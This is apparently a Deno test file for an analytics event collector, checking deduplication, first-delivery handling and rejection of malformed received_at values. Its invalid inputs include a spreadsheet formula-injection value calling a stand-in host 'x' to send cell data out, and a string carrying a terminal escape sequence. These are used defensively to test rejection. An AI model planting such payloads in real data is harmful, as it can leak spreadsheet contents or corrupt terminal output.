import { deepEqual, equal } from "node:assert/strict";
import { collectEvents } from "../../src/analytics/mod.ts";
import { datasetLines } from "../fixtures/analytics/dataset.ts";

const text = datasetLines().join("\n");

Deno.test("each event_id counts once, the first delivery wins, and damaged lines are skipped and counted", () => {
  const c = collectEvents([{ origin: "export.ndjson", text }]);
  equal(c.events.length, 38);
  equal(c.duplicates, 3);
  deepEqual(c.invalid.map((i) => [i.origin, i.lineNumber]), [["export.ndjson", 23], [
    "export.ndjson",
    26,
  ]]);
  equal(c.invalid[0].reason, "not JSON");
  equal(c.invalid[1].reason, "tool.failed: metadata.tool: must match ^[a-z0-9][a-z0-9._-]{0,39}$");
  const s1 = c.events.find((e) => e.envelope.timestamp === "2026-01-01T00:00:00Z")!;
  equal(s1.receivedAt, "2026-01-01T00:00:05.000Z", "the first delivery's received_at is kept");
  const firstDelivery = datasetLines().find((l) =>
    l.includes('"timestamp":"2026-01-01T00:00:00Z"')
  );
  equal(s1.line, firstDelivery, "the line is kept as read");
});

Deno.test("duplicates count once across texts, received_at is optional, and a wrong received_at is invalid", () => {
  const [first] = datasetLines();
  const { received_at: _received, ...bare } = JSON.parse(first);
  const c = collectEvents([
    { origin: "a.jsonl", text: `${first}\n\n   \n` },
    {
      origin: "b.jsonl",
      text: [
        JSON.stringify(bare),
        JSON.stringify({ ...bare, received_at: 5 }),
        "[1]",
        JSON.stringify({ ...bare, received_at: '=HYPERLINK("http://x/?"&A1)' }),
        JSON.stringify({ ...bare, received_at: "2026-01-01T00:00:00.123Z\u001b[31m" }),
      ].join("\n"),
    },
  ]);
  equal(c.events.length, 1);
  equal(c.duplicates, 1);
  deepEqual(c.invalid.map((i) => `${i.origin}:${i.lineNumber}: ${i.reason}`), [
    "b.jsonl:2: received_at must be a UTC time, as the collector writes it",
    "b.jsonl:3: not a JSON object",
    "b.jsonl:4: received_at must be a UTC time, as the collector writes it",
    "b.jsonl:5: received_at must be a UTC time, as the collector writes it",
  ]);
});
